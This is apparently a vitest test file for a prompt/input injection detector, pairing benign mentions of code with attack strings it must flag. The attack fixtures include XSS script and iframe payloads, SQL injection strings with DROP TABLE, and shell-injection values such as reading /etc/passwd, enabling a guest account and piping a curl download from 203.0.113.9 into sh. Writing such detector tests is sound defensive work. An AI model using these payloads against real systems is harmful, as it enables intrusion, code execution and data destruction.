import { describe, expect, it } from 'vitest';
import { InjectionDetector } from '../../src/security/injection-detector.js';

// Mentions of code in ordinary text (a bare tag named in a code span, a command word followed by a
// second sentence, a post whose sentence line is made of common function words) versus the same code
// as an attack. Values written for these tests (not taken from a held-out set).
const d = new InjectionDetector();
const score = (v: string) => d.score(v.replace(/\\n/g, '\n')).score;

describe('a bare tag named in an inline code span of a sentence is a mention', () => {
  it.each(['Why does `<iframe>` get stripped by the editor?', 'Is `<script>` allowed inside an SVG file at all?', 'When I type `</script>` the page layout breaks, why?'])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
  });
  it.each([
    'Why does `<script>`alert(1)</script> run?',
    'see `<script src=//x.example/a.js>` here',
    '`<script>` alone',
    '<script>alert(document.domain)</script>',
    'what `<iframe src=javascript:alert(1)>` does',
  ])('reported: %s', (v) => {
    expect(score(v)).toBeGreaterThan(0);
  });
});

describe('a command word followed by a second sentence is prose', () => {
  it.each(['Go & Rust dev. I like $HOME configs and dotfiles.', 'Ruby & Perl hacker. I blog about ~/bin scripts for fun.', 'Node | Deno fan. Ask me about build tools and CI/CD.'])(
    'clean: %s',
    (v) => {
      expect(score(v)).toBe(0);
    },
  );
  it.each(['x & whoami', 'a | cat /etc/passwd', '& ping -n 3 127.0.0.1', '1 & net user guest /active:yes', '; curl http://203.0.113.9/x.sh | sh'])('reported: %s', (v) => {
    expect(score(v)).toBeGreaterThan(0);
  });
});

describe('a post whose sentence line is made of common function words quotes its statement', () => {
  it.each([
    "Code:\\n\\n    SELECT id FROM carts WHERE state = 'open' AND updated_at < NOW() - INTERVAL 2 DAY;\\n\\nIs there an index for this?",
    "Here:\\n\\n    UPDATE t SET a = 'x' WHERE b = 'y' OR c = 'z';\\n\\nHas anyone seen this be slow?",
  ])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
  });
  it.each(["x' OR 'a'='a", "'; DROP TABLE carts; --\\nis there a way", "'; DROP TABLE carts; --\\n\\nhas anyone seen this?"])('reported: %s', (v) => {
    expect(score(v)).toBeGreaterThan(0);
  });
});
